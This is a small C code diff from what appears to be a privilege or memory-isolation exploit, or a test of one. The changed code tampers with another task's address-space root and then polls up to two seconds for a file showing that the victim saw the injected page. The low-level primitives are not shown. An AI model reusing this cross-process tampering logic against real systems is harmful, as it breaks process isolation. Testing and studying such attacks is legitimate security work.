@@ -16,6 +16,17 @@ static bool control(void)
 
 static volatile char memory[4096] __attribute__((aligned(4096)));
 
+/* The victim has two seconds to see the page. */
+static bool appeared(void)
+{
+	for (int i = 0; i < 200; i++) {
+		if (call3(__NR_open, (long)"/tmp/seen", O_RDONLY, 0) >= 0)
+			return true;
+		sleep_milliseconds(10);
+	}
+	return false;
+}
+
 static bool fire(void)
 {
 	const uint64_t task = own_task(), other = own_root(victim_task(task));
@@ -33,8 +44,7 @@ static bool fire(void)
 	call6(__NR_mmap, (long)memory, 4096, PROT_READ | PROT_WRITE,
 	      MAP_SHARED | MAP_FIXED | MAP_POPULATE, file, 0);
 	poke(space_root, own);
-	sleep_milliseconds(100);
-	return call3(__NR_open, (long)"/tmp/seen", O_RDONLY, 0) >= 0;
+	return appeared();
 }
 
 /* Says when its memory has changed under its eyes. */
